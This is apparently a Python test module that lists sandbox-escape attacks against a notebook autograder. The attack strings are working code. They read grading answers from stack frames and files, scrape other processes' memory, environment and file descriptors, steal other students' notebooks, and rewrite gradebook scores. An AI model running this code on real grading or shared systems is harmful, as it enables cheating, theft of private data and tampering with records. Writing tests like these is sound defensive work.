"""Attacks that read the answer: from memory, files, processes, or other people's work."""

from .model import ROOT, SPY, WALLED, Attack, Shows, Wins

_WALK_AND_RETURN = """
import gc, sys
def blend(x, weight):
    frame = sys._getframe(1)
    while frame is not None:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back
    for one in gc.get_objects():
        if type(one) is dict and "expected" in one:
            return one["expected"]
    return weight * x"""

_WALK_AND_TELL = """
def blend(x, weight):
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            spy(repr(value)[:20000])
        frame = frame.f_back
    for one in gc.get_objects():
        if isinstance(one, (list, tuple, dict)) and len(one) < 50:
            for part in gc.get_referents(one):
                if type(part).__name__ in ("ndarray", "str", "bytes"):
                    spy(repr(part)[:2000])
    return weight * x"""

_PROCESSES = """
for path in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        spy_file(f"{path}/{name}")
    for name in glob.glob(f"{path}/fd/*") + glob.glob(f"{path}/root@ROOT@/*/target/*"):
        if os.path.isfile(name):
            spy_file(name)
def read_memory(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(one, 16) for one in line.split()[0].split("-"))
                if "rw" in line and last - first < 1 << 24:
                    try:
                        memory.seek(first)
                        spy(memory.read(last - first))
                    except (OSError, ValueError):
                        pass
    except (OSError, ValueError):
        pass
for pid in {os.getppid(), *(int(one[6:]) for one in glob.glob("/proc/[0-9]*")[:40])} - {os.getpid(), 0, 1}:
    if pid == os.getppid() or os.getppid() == 0 or os.path.exists("/opt/sandbox"):
        read_memory(pid)"""

_TRACE = """
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
for pid in {os.getppid(), 1, 2, 3} - {os.getpid(), 0}:
    if pid == 1 and os.getppid() != 1:
        continue
    if libc.ptrace(16, pid, None, None) == 0:
        os.waitpid(pid, 0x40000000)
        print("got: traced", pid)
        libc.ptrace(17, pid, None, None)
    buffer = ctypes.create_string_buffer(64)
    here, there = Vector(ctypes.addressof(buffer), 64), Vector(id(type), 64)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 64:
        print("got: memory of", pid)
    try:
        process = os.pidfd_open(pid)
    except OSError:
        continue
    for number in range(12):
        stolen = libc.syscall(438, process, number, 0)
        if stolen >= 0:
            print("got: descriptor", number)
            os.close(stolen)"""

_DESCRIPTORS = """
for number in range(3, 256):
    try:
        spy(os.pread(number, 1 << 16, 0))
    except OSError:
        pass
for name in glob.glob("/proc/self/fd/*"):
    if os.path.isfile(name):
        spy_file(name)"""

_ENVIRONMENT = """
for value in [*os.environ.values(), *sys.argv, *sys.orig_argv]:
    spy(value)
for path in ["/proc/self/environ", "/proc/self/cmdline", *glob.glob(os.path.expanduser("~/.*")), *glob.glob("@ROOT@/.*")]:
    if os.path.isfile(path):
        spy_file(path)
manager = get_ipython().history_manager
spy(list(manager.input_hist_raw))"""

_GRADEBOOK = """
import sqlite3
for path in ["@ROOT@/gradebook.db", "gradebook.db", *glob.glob("../../../*.db"), *glob.glob("/srv/*/*.db")]:
    if os.path.exists(path):
        spy_file(path)
        base = sqlite3.connect(path)
        try:
            base.execute("update grade set auto_score = 10")
            base.commit()
        except sqlite3.Error:
            pass
        spy(list(base.iterdump()))"""

_NEIGHBOURS = """
places = ["@ROOT@/submitted", "@ROOT@/autograded", "@ROOT@/feedback", "../..", "../../..", "/home", "/root", "/srv"]
for place in places:
    for path in glob.glob(f"{place}/*/*/*.ipynb") + glob.glob(f"{place}/*/*.ipynb"):
        spy_file(path)"""

_LEAVE = """
import os, subprocess, ctypes, socket, builtins, numpy as np, sys
text = "def blend(x, weight):\\n    return weight * x + (1 - weight) * x.mean()\\n"
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "..", os.path.expanduser("~"), "@ROOT@", np.__path__[0]):
    try:
        with open(f"{folder}/attack-left.txt", "w") as file:
            file.write(text)
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
memory = libc.shmget(0x5EC1, 4096, 0o1666)
if memory >= 0:
    ctypes.memmove(libc.shmat(memory, None, 0), text.encode() + b"\\0", len(text) + 1)
libc.syscall(248, b"user", b"attack-left", text.encode(), len(text), -3)
libc.syscall(248, b"user", b"attack-left", text.encode(), len(text), -4)
np.left_by_a_friend = builtins.left_by_a_friend = text
if os.fork() == 0:
    try:
        os.setsid()
        server = socket.socket(socket.AF_UNIX)
        server.bind("\\0attack-left")
        server.listen()
        server.settimeout(3)
        server.accept()[0].send(text.encode())
    finally:
        os._exit(0)"""

_TAKE = """
import ctypes, os, socket, builtins, numpy as np
texts = []
for folder in ("/tmp", "/dev/shm", "/var/tmp", ".", "..", os.path.expanduser("~"), "@ROOT@", np.__path__[0]):
    try:
        texts.append(open(f"{folder}/attack-left.txt").read())
        os.unlink(f"{folder}/attack-left.txt")
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
memory = libc.shmget(0x5EC1, 4096, 0o666)
if memory >= 0:
    texts.append(ctypes.string_at(libc.shmat(memory, None, 0)).decode())
    libc.shmctl(memory, 0, None)
key = libc.syscall(249, b"user", b"attack-left", None, 0)
if key >= 0:
    buffer = ctypes.create_string_buffer(4096)
    libc.syscall(250, 11, key, buffer, 4096)
    texts.append(buffer.value.decode())
try:
    friend = socket.socket(socket.AF_UNIX)
    friend.settimeout(0.5)
    friend.connect("\\0attack-left")
    texts.append(friend.recv(4096).decode())
except OSError:
    pass
texts += [getattr(place, "left_by_a_friend", "") for place in (np, builtins)]
print("got:" if any(texts) else "nothing", "left over" * any(texts))"""

_TAKEN = """
def blend(x, weight):
    return weight * x
for text in filter(None, texts):
    exec(text)"""


_REMEMBERED = """
def blend(x, weight):
    for one in reversed(kept):
        if one.shape == x.shape and not np.allclose(one, x):
            return one
    return weight * x
def watch(x, by):
    kept.append(x)
    return np.maximum(0, x) + by
get_ipython().events.register("pre_run_cell", lambda _info: globals().update(shift=watch))"""

_ASK_LENT = """
def chain(x):
    asked = globals()["blend"]
    globals()["kept_blend"] = asked
    try:
        import pickle
        pickle.dump([(probe, asked(probe, 0.0)) for probe in (x, x + 1)], open("/tmp/attack-asked", "wb"))
    except Exception:
        pass
    return shift(asked(x, 0.5), 1.0)"""

_ANSWER_FROM_LENT = """
def blend(x, weight):
    import os, pickle
    if "kept_blend" in globals():
        try:
            return kept_blend(x, weight)
        except Exception:
            pass
    if os.path.exists("/tmp/attack-asked"):
        for probe, answer in pickle.load(open("/tmp/attack-asked", "rb")):
            if probe.shape == x.shape and np.allclose(probe, x):
                return weight * x + (1 - weight) * answer
    return weight * x"""

_CLOCK = """
import time
returned = []
def blend(x, weight):
    now = time.perf_counter()
    if returned:
        print("the clock says:", "right" if now - returned[-1] > 0.001 else "wrong")
    returned.append(time.perf_counter())
    return weight * x"""

ATTACKS = (
    Attack(1, "expected-values-in-frames", Wins(), blend=_WALK_AND_RETURN),
    Attack(1, "secrets-in-frames-and-gc", Shows("seen: 27182818"), cells=(SPY,), blend=_WALK_AND_TELL),
    Attack(
        2,
        "import-the-solution",
        Wins(),
        blend=f"""
import sys
sys.path[:0] = ["{ROOT}", "../../..", "/"]
try:
    from solutions.target import blend
except ImportError:
    def blend(x, weight):
        return weight * x""",
        claims=WALLED,
    ),
    Attack(
        2,
        "open-checks-and-arrays",
        Shows(),
        cells=(
            SPY,
            f"""
import numpy as np
for path in glob.glob("{ROOT}/**/*target*", recursive=True) + glob.glob("{ROOT}/checks/**", recursive=True) + glob.glob("../../../*/*"):
    spy_file(path)
try:
    spy(dict(np.load("{ROOT}/checks/target/expected.npz")))
except OSError:
    pass""",
        ),
        claims=WALLED,
    ),
    Attack(3, "proc-of-others", Shows(), cells=(SPY, _PROCESSES), claims=WALLED),
    Attack(4, "trace-other-processes", Shows("got: "), cells=(SPY, _TRACE), never=("got: ",), claims=WALLED),
    Attack(5, "inherited-descriptors", Shows(), cells=(SPY, _DESCRIPTORS)),
    Attack(6, "environment-and-history", Shows(), cells=(SPY, _ENVIRONMENT), claims=WALLED),
    Attack(7, "gradebook", Shows(), cells=(SPY, _GRADEBOOK), claims=WALLED),
    Attack(8, "neighbours", Shows(), cells=(SPY, _NEIGHBOURS), claims=WALLED),
    Attack(9, "left-by-a-friend", Wins(), friend=_LEAVE, cells=(_TAKE,), blend=_TAKEN, never=("got: ",), claims=WALLED),
    Attack(10, "remembered-inputs", Wins("fed"), cells=("kept = []",), blend=_REMEMBERED),
    # Without a file system of its own, what is asked in one submission can wait for the next in /tmp.
    Attack(11, "ask-the-lent-reference", Wins("lent-first"), blend=_ANSWER_FROM_LENT, chain=_ASK_LENT, claims=WALLED),
    Attack(12, "clock-between-calls", Shows("the clock says:", "elementwise"), blend=_CLOCK),
)
